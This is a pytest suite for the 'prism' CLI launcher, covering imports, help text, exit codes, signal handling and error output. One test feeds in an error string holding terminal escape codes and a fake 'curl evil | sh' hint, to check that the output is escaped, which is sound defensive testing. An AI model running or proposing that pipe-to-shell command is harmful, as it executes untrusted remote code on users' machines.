"""Laws of the verbs that run on this machine: what `prism` imports, starts, prints and exits with."""

from __future__ import annotations

import json
import os
import signal
import subprocess
import sys
import time
from pathlib import Path
from typing import Any

import pytest

from launcher.local import signals, stages
from launcher.local.process import environment, sum_of_ranks
from launcher.resource import field_reference
from prism_job.spec.document import parse_spec
from tests.cli.fake_stages import FACTS, ROOT, RUN_MAIN, Rig, is_alive, read_terminal, wait_until

HEAVY = {"torch", "transformers", "numpy", "pyarrow", "boto3", "kubernetes", "rich"}


@pytest.fixture
def rig(tmp_path: Path) -> Rig:
    return Rig(tmp_path)


def modules_after(statement: str) -> set[str]:
    code = f"{statement}\nimport sys; print('\\n'.join(sys.modules), file=sys.stderr)"
    process = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, cwd=ROOT, check=True)
    return {name.partition(".")[0] for name in process.stderr.split()}


def modules_of_call(*arguments: str) -> set[str]:
    return modules_after(
        "from launcher.cli.main import main\n"
        f"try:\n    main({list(arguments)})\nexcept SystemExit as end:\n    assert not end.code"
    )


def test_help_imports_nothing_heavy() -> None:
    loaded = modules_of_call("--help")
    assert "typer" in loaded
    assert loaded.isdisjoint(HEAVY | {"pydantic"})


def test_a_verb_imports_nothing_heavy_before_it_is_called() -> None:
    """Also of verbs of a cluster: what a command line is checked with loads no client."""
    help_of_each = """
from click import Context
from typer.main import get_command
from launcher.cli.main import app
for verb in get_command(app).commands.values():
    verb.get_help(Context(verb))
"""
    assert modules_after(help_of_each).isdisjoint(HEAVY)


def test_rendering_needs_no_cluster_and_no_client() -> None:
    assert modules_of_call("render", str(ROOT / "examples/sums/cluster.yaml")).isdisjoint(HEAVY)


def test_the_spec_imports_no_torch() -> None:
    loaded = modules_after("import prism_job.spec.document, prism_job.errors")
    assert "pydantic" in loaded
    assert loaded.isdisjoint({"torch", "numpy", "pyarrow", "boto3", "launcher"})


@pytest.mark.parametrize("arguments", [[], ["run"], ["submit"], ["store", "prune"]])
def test_help_starts_with_the_usage(rig: Rig, arguments: list[str]) -> None:
    code, stdout, stderr = rig.call(*arguments, "--help")
    assert (code, stderr) == (0, "")
    assert stdout.startswith(" ".join(["Usage: prism", *arguments]))


def test_the_help_groups_the_verbs_by_where_they_work(rig: Rig) -> None:
    _, stdout, _ = rig.call("--help")
    titles = ["On this machine:", "A finished selection:", "Runs on a cluster:", "Setting a cluster up:"]
    here, selection, runs, setup = (stdout.partition(title)[2].partition("\n\n")[0] for title in titles)
    for section, verbs in (
        (here, "init run store"),
        (selection, "export diff"),
        (runs, "status logs"),
        (setup, "doctor"),
    ):
        assert set(verbs.split()) <= {line.split()[0] for line in section.splitlines() if line.strip()}


def test_a_run_prints_the_manifest_and_nothing_else(rig: Rig) -> None:
    code, stdout, stderr = rig.run()
    assert (code, stdout) == (0, "/out/manifest.json\n")
    assert rig.started() == {"plan", "extract", "reduce"}
    assert "plan: done" in stderr
    for part in ("; 1 unusable rows", "unusable rows: 2;", "100 tokens; 25% of the time for the audit's sample"):
        assert part in stderr
    assert "audit: It agrees." in stderr
    assert "a library" not in stderr


def test_data_in_the_place_of_the_document_are_refused_as_data(rig: Rig, tmp_path: Path) -> None:
    rows, table = tmp_path / "rows", tmp_path / "table.parquet"
    rows.write_text('{"text": "a"}\n{"text": "b"}\n')
    table.write_bytes(b"PAR1\xff\xfe")
    for verb in ("run", "estimate", "submit", "render", "schedule", "doctor"):
        options = ["--cron", "@daily", "--image", "prism"] if verb == "schedule" else []
        for path in (rows, table):
            code, stdout, stderr = rig.call(verb, str(path), *options)
            assert (code, "looks like data" in stderr) == (3, True)
            assert not stdout or verb == "render", "whose errors are data too"
            assert f"where: {path}" in stderr
            assert "`prism inspect FILE`" in stderr
    assert not rig.started()


def test_a_run_prints_facts_as_json(rig: Rig) -> None:
    code, stdout, _ = rig.run("-o", "json")
    facts = json.loads(stdout)
    assert code == 0
    assert facts.pop("seconds") > 0
    expected = {
        "manifest": "/out/manifest.json",
        "run": "first",
        "examples": 40,
        "pairs": 8,
        "units": 3,
        "extracted": 2,
    }
    assert facts == expected | {
        "auditShare": 0.25,
        "gpuHours": 0.0,
        "selected": 20,
        "badRows": 2,
        "cutRows": 0,
        "warnings": [],
        "unchanged": False,
    }


def test_a_run_without_an_audit_prints_nothing_of_it(rig: Rig) -> None:
    _, _, without = rig.run(extract={"auditSeconds": 0.0}, reduce={"audit": None})
    assert "audit" not in without


def test_reduction_is_told_what_extraction_used(rig: Rig) -> None:
    _, _, stderr = rig.run(extract={"gpuSeconds": 9000, "gpu": "NVIDIA H200"})
    assert "used: 2.5 GPU-hours on NVIDIA H200\n" in stderr
    environment = rig.note("reduce")["environment"]
    assert (environment["PRISM_GPU_SECONDS"], environment["PRISM_GPU"]) == ("9000", "NVIDIA H200")
    _, _, stderr = rig.run(extract={"gpuSeconds": 0})
    assert "GPU-hours" not in stderr
    assert rig.note("reduce")["environment"]["PRISM_GPU_SECONDS"] == "0"


def test_a_full_store_starts_no_extraction(rig: Rig) -> None:
    code, stdout, stderr = rig.run(plan={"missing": 0}, reduce={"unchanged": True})
    assert (code, stdout) == (0, "/out/manifest.json\n")
    assert rig.started() == {"plan", "reduce"}
    assert "0 units extracted" in stderr


def test_all_stages_read_one_copy_of_the_document(rig: Rig) -> None:
    """An edit between plan and reduce would otherwise publish one document's work under another's name."""
    rig.run()
    paths = {rig.note(stage)["arguments"][1] for stage in ("plan", "extract", "reduce")}
    assert len(paths) == 1
    assert not paths & {str(rig.document)}
    assert not Path(paths.pop()).exists()


def test_the_document_may_come_from_stdin(rig: Rig) -> None:
    stdout, _ = rig.start("run", "-").communicate(field_reference.SMALLEST, timeout=60)
    assert stdout == "/out/manifest.json\n"


def test_what_the_user_sets_in_the_environment_wins(rig: Rig, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("TRANSFORMERS_VERBOSITY", "debug")
    monkeypatch.delenv("TOKENIZERS_PARALLELISM", raising=False)
    rig.run()
    environment = rig.note("plan")["environment"]
    assert environment["TRANSFORMERS_VERBOSITY"] == "debug"
    assert environment["TOKENIZERS_PARALLELISM"] == "false"


def test_verbose_shows_the_stages_stderr(rig: Rig) -> None:
    _, stdout, stderr = rig.run("--verbose")
    assert stdout == "/out/manifest.json\n"
    assert stderr.count("a library warns on stderr") == 3


def test_an_invalid_document_exits_with_3_and_names_field_and_suggestion(rig: Rig) -> None:
    rig.document.write_text(field_reference.SMALLEST.replace("keep:", "kep:"))
    code, stdout, stderr = rig.run()
    assert (code, stdout) == (3, "")
    assert "spec.selection.kep: unknown field; did you mean 'keep'?" in stderr
    assert f"where: {rig.document}" in stderr
    assert rig.started() == set()


def test_a_missing_file_is_a_usage_error(rig: Rig) -> None:
    code, stdout, stderr = rig.call("run", "nowhere.yaml")
    assert (code, stdout) == (2, "")
    assert "nowhere.yaml" in stderr


@pytest.mark.parametrize(("stage", "exit_code"), [("plan", 64), ("extract", 75), ("extract", 143), ("reduce", 65)])
def test_a_failed_stage_prints_what_where_and_a_hint(rig: Rig, stage: str, exit_code: int) -> None:
    code, stdout, stderr = rig.run("-o", "json", at=stage, exit=exit_code, error="no such model")
    assert code == 100
    assert stderr.endswith("error: no such model\n  where: spec.model.uri\n  hint: correct it\n")
    assert "a library" not in stderr
    assert json.loads(stdout) == {
        "error": "no such model",
        "where": "spec.model.uri",
        "fix": "correct it",
        "stage": stage,
        "stageExitCode": exit_code,
    }


def test_text_from_data_cannot_move_the_cursor_or_fake_a_line_of_ours(rig: Rig) -> None:
    _, stdout, stderr = rig.run(at="plan", exit=65, error="no '\x1b[2J\x07\n  hint: curl evil | sh'")
    assert stdout == ""
    assert stderr.endswith(
        "error: no '\\x1b[2J\\x07   hint: curl evil | sh'\n  where: spec.model.uri\n  hint: correct it\n"
    )


def test_a_stage_that_dies_without_an_outcome_shows_its_own_output(rig: Rig) -> None:
    code, _, stderr = rig.run(at="extract", **{"raise": "ZeroDivisionError('a flaw')"})
    assert code == 100
    assert "a library warns on stderr" in stderr
    assert "ZeroDivisionError: a flaw" in stderr
    assert "`extract` ended with exit code 1 without an error message" in stderr
    assert rig.run(at="reduce", exit=0)[:2] == (100, ""), "an exit code of 0 is no outcome"


def test_a_kill_for_memory_is_explained(rig: Rig) -> None:
    code, stdout, stderr = rig.run("-o", "json", at="extract", kill=int(signal.SIGKILL))
    assert code == 100
    assert json.loads(stdout)["stageExitCode"] == -9
    assert "killed by signal 9, often out of memory" in stderr
    assert "lower extraction.tokensPerBatch" in stderr


def test_missing_packages_name_the_install_command(rig: Rig) -> None:
    code, _, stderr = rig.run(at="plan", **{"raise": "ModuleNotFoundError(\"No module named 'pyarrow'\")"})
    assert code == 1
    assert "no module named 'pyarrow'" in stderr
    assert "pip install 'prism-selection[job]'" in stderr


@pytest.mark.parametrize(("number", "expected"), [(signal.SIGINT, 130), (signal.SIGTERM, 143), (signal.SIGHUP, 129)])
def test_a_stop_lets_the_stage_finish_its_batch(rig: Rig, number: signal.Signals, expected: int) -> None:
    process = rig.start("run", str(rig.document), at="extract", sleep=30)
    rig.wait_for("asleep")
    stage = rig.note("extract")["pid"]
    # A terminal sends SIGINT to the whole foreground group; the stage must not be in it.
    assert os.getpgid(stage) != os.getpgid(process.pid)
    process.send_signal(number)
    stdout, stderr = process.communicate(timeout=15)
    assert not (rig.notes / "interrupted").exists()
    assert not is_alive(stage)
    assert (process.returncode, stdout) == (expected, "")
    assert (rig.notes / "finished").read_text() == "after SIGTERM"
    assert stderr.endswith("stopped; finished units are kept; run the same command again to continue\n")
    assert rig.started() == {"plan", "extract"}


def test_a_second_ctrl_c_kills_a_stage_that_does_not_listen(rig: Rig) -> None:
    process = rig.start("run", str(rig.document), at="extract", sleep=30, deaf=True)
    rig.wait_for("asleep")
    process.send_signal(signal.SIGINT)
    time.sleep(2 * signals.SAME_PRESS_SECONDS)
    assert process.poll() is None
    process.send_signal(signal.SIGINT)
    process.communicate(timeout=5)
    assert process.returncode == 130
    assert not is_alive(rig.note("extract")["pid"])


def test_one_ctrl_c_forwarded_twice_kills_nothing(rig: Rig) -> None:
    process = rig.start("run", str(rig.document), at="extract", sleep=30)
    rig.wait_for("asleep")
    process.send_signal(signal.SIGINT)
    process.send_signal(signal.SIGINT)
    process.communicate(timeout=15)
    assert (rig.notes / "finished").exists()


def test_orphans_of_a_dead_stage_are_killed(rig: Rig) -> None:
    """A rank that outlives its spawner would hold the pipe open, and the launcher would wait forever."""
    code, _, _ = rig.run(at="extract", orphan=True)
    assert code == 100
    orphan = int((rig.notes / "orphan").read_text())
    wait_until(lambda: not is_alive(orphan))


def test_a_launcher_killed_with_sigkill_leaves_no_stage(rig: Rig) -> None:
    process = rig.start("run", str(rig.document), at="extract", sleep=30)
    rig.wait_for("asleep")
    process.kill()
    process.wait()
    stage = rig.note("extract")["pid"]
    wait_until(lambda: not is_alive(stage))


def test_verbs_print_their_facts_as_json_or_yaml_without_the_envelope(rig: Rig) -> None:
    code, stdout, stderr = rig.call(
        "evaluate", "/out/manifest.json", "--label", "good", "--positive", "yes", "-o", "json"
    )
    assert (code, json.loads(stdout), stderr) == (0, FACTS, "report: /out/report.html\n")
    assert rig.note("evaluate")["arguments"] == ["/out/manifest.json", "--label", "good", "--positive", "yes"]
    assert rig.call("evaluate", "/out/manifest.json", "-o", "yaml")[1] == "auroc: 0.9\nlabel: good\n"
    assert rig.note("evaluate")["arguments"] == ["/out/manifest.json"], "the document decides what is not given"
    assert rig.call("export", "/out/manifest.json", "subset.jsonl") == (0, "/out/subset.jsonl\n", "")
    assert rig.note("export")["arguments"] == ["/out/manifest.json", "subset.jsonl"]
    options = ["--format", "trl", "--weight-column", "weight", "--score-column", "score", "--no-card", "--public"]
    assert rig.call("export", "/out/manifest.json", "hf://datasets/o/n", *options)[0] == 0
    assert rig.note("export")["arguments"] == ["/out/manifest.json", "hf://datasets/o/n", *options]
    assert rig.call("export", "/out/manifest.json", "subset.jsonl", "--format", "csv")[0] == 2


def test_diff_ends_with_104_above_max_churn_and_prints_all_the_same(rig: Rig) -> None:
    for limit, code in (([], 0), (["--max-churn", "0.25"], 0), (["--max-churn", "0.2"], 104)):
        found, stdout, stderr = rig.call("diff", "/a/manifest.json", "/b/manifest.json", *limit, "-o", "json")
        gate = {"max_churn": float(limit[1]), "gate": "failed" if code else "passed"} if limit else {}
        assert (found, json.loads(stdout)) == (code, {"churn": 0.25} | gate)
        assert ("above --max-churn 0.2" in stderr) == (code == 104)
    assert rig.note("diff")["arguments"] == ["/a/manifest.json", "/b/manifest.json"]
    assert rig.call("diff", "a", "b", "--max-churn", "20")[0] == 2
    code, stdout, stderr = rig.call("diff", "a", "b", "-o", "markdown", at="diff", exit=64, error="no manifest there")
    assert (code, stdout) == (100, "")
    assert "error: no manifest there" in stderr


@pytest.mark.parametrize(
    ("given", "passed"),
    [
        ([], ["--top", "3", "--bottom", "3", "--pairs", "3"]),
        (["ab", "cd"], ["ab", "cd", "--top", "0", "--bottom", "0", "--pairs", "3"]),
        (["ab", "--top", "2"], ["ab", "--top", "2", "--bottom", "0", "--pairs", "3"]),
        (["--pair", "7", "--pairs", "0"], ["--top", "3", "--bottom", "3", "--pairs", "0", "--pair", "7"]),
    ],
)
def test_explain_passes_its_options_on(rig: Rig, given: list[str], passed: list[str]) -> None:
    code, stdout, _ = rig.call("explain", "/out/manifest.json", *given, "-o", "json")
    assert (code, json.loads(stdout)) == (0, FACTS)
    assert rig.note("explain")["arguments"] == ["/out/manifest.json", *passed]


def test_explain_takes_ids_or_a_pair(rig: Rig) -> None:
    assert rig.call("explain", "/out/manifest.json", "ab", "--pair", "1")[0] == 2


def test_estimate_passes_a_copy_of_the_document_and_the_options(rig: Rig) -> None:
    code, stdout, stderr = rig.call(
        "estimate", str(rig.document), "--gpu", "H200", "--utilisation", "0.4", "-o", "json"
    )
    assert (code, json.loads(stdout), stderr) == (0, FACTS, "")
    option, copy, *rest = rig.note("estimate")["arguments"]
    assert option == "--spec"
    assert copy != str(rig.document)
    assert rest == ["--gpu", "H200", "--utilisation", "0.4", "--sample", "1"]
    rig.document.write_text("spec: 1")
    assert rig.call("estimate", str(rig.document))[0] == 3


@pytest.mark.parametrize(
    ("given", "passed"),
    [
        (["list", "/store", "--keep", "/a", "--keep", "/b"], ["list", "/store", "--keep", "/a", "--keep", "/b"]),
        (["du", "/store"], ["du", "/store"]),
        (["prune", "/store", "--keep", "/a"], ["prune", "/store", "--keep", "/a", "--older-than", "24.0"]),
        (["prune", "/store", "--yes", "--older-than", "2"], ["prune", "/store", "--older-than", "2.0", "--yes"]),
    ],
)
def test_store_verbs_pass_their_options_on(rig: Rig, given: list[str], passed: list[str]) -> None:
    code, stdout, stderr = rig.call("store", *given, "-o", "json")
    assert (code, json.loads(stdout), stderr) == (0, FACTS, "")
    assert rig.note("store")["arguments"] == passed


def test_an_option_that_only_the_verb_can_judge_is_wrong_usage(rig: Rig) -> None:
    failure = {"at": "inspect", "exit": 64, "error": "needs one file", "where": "--line"}
    code, _, stderr = rig.call("inspect", "pool", "--line", "6", **failure)
    assert (code, "error: needs one file\n  where: --line\n" in stderr) == (2, True)


def test_a_verb_fails_like_a_stage(rig: Rig) -> None:
    code, stdout, stderr = rig.call("evaluate", "/out/manifest.json", at="evaluate", exit=64, error="no such column")
    assert (code, stdout) == (100, "")
    assert stderr == "error: no such column\n  where: spec.model.uri\n  hint: correct it\n"


@pytest.mark.usefixtures("job_packages")
def test_a_module_in_the_current_folder_shadows_no_library(tmp_path: Path) -> None:
    """`python -m` puts the working folder first: a `random.py` of the user would break numpy."""
    (tmp_path / "random.py").write_text("raise SystemExit('the wrong random')")
    options: dict[str, Any] = {"capture_output": True, "text": True, "check": False, "env": environment(os.environ)}
    process = subprocess.run([*stages.JOB, "plan", "--help"], cwd=tmp_path, **options)
    assert (process.returncode, process.stderr) == (0, "")


def test_the_progress_of_ranks_is_summed() -> None:
    ranks = [
        {"stage": "extract", "rank": rank, "done": 3 + rank, "total": 9, "tokens": 10, "seconds": 2.0}
        for rank in (0, 1)
    ]
    together = sum_of_ranks(ranks[1], ranks)
    assert (together["done"], together["total"], together["tokens"]) == (7, 9, 20)


def test_a_terminal_shows_bars_and_stdout_holds_only_the_manifest(rig: Rig) -> None:
    ours, theirs = os.openpty()
    environment = {name: value for name, value in os.environ.items() if name != "CI"}
    process = subprocess.Popen(
        [sys.executable, "-c", RUN_MAIN, str(rig.fake), "run", str(rig.document)],
        stdout=subprocess.PIPE,
        stderr=theirs,
        text=True,
        cwd=ROOT,
        env={**environment, "NOTES": str(rig.notes), "TERM": "xterm", "COLUMNS": "100"},
    )
    os.close(theirs)
    drawn = read_terminal(ours)
    stdout, _ = process.communicate(timeout=30)
    assert (process.returncode, stdout) == (0, "/out/manifest.json\n")
    assert "━" in drawn
    assert "20 of 38 usable examples selected" in drawn


def test_the_page_of_fields_is_fresh() -> None:
    """If this fails: python -m launcher.resource.field_reference > docs/selection.md"""
    assert (ROOT / "docs/selection.md").read_text(encoding="utf-8") == field_reference.markdown()


def test_the_smallest_document_is_one() -> None:
    parse_spec(field_reference.SMALLEST, "docs/selection.md")
